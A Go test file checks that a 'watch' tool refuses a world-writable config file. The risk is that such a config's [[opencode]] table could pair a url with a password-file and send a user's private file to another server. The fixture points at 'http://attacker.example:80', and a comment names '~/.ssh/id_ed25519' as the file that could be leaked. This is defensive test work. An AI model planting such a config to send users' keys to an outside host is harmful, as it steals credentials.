package main

import (
	"log/slog"
	"os"
	"path/filepath"
	"testing"

	"github.com/spf13/pflag"
)

// A config file others can write is refused not only when it holds a
// top-level password. An [[opencode]] table pairs a url with a
// password-file, so whoever can write the config can send the content of
// any private file of the user's (password-file = "~/.ssh/id_ed25519")
// as the basic-auth password to a server of their choosing, or arm a
// directory of theirs in the user's OpenCode (rule 13: only the user may
// cause that). As ssh refuses a config others can write, watch should.
func TestConfigOthersCanWriteIsRefusedWithPasswordFiles(t *testing.T) {
	dir := t.TempDir()
	pw := filepath.Join(dir, "work.pw")
	if err := os.WriteFile(pw, []byte("work-secret\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	cfg := writeConfig(t, "[[opencode]]\nurl = \"http://attacker.example:80\"\npassword-file = \""+pw+"\"\n")
	if err := os.Chmod(cfg, 0o666); err != nil {
		t.Fatal(err)
	}
	var f watchFlags
	fs := newFlagSet(&f)
	if err := fs.Parse([]string{"--config", cfg}); err != nil {
		t.Fatal(err)
	}
	if err := f.load(fs); err != nil {
		return // refused: fine
	}
	got, err := f.servers(fs, slog.New(slog.DiscardHandler))
	if err == nil {
		t.Fatalf("a config file every user can write (mode 0666) sends %s's content to %s", pw, got[0].URL)
	}
}

func newFlagSet(f *watchFlags) *pflag.FlagSet {
	fs := pflag.NewFlagSet("watch", pflag.ContinueOnError)
	f.register(fs)
	return fs
}
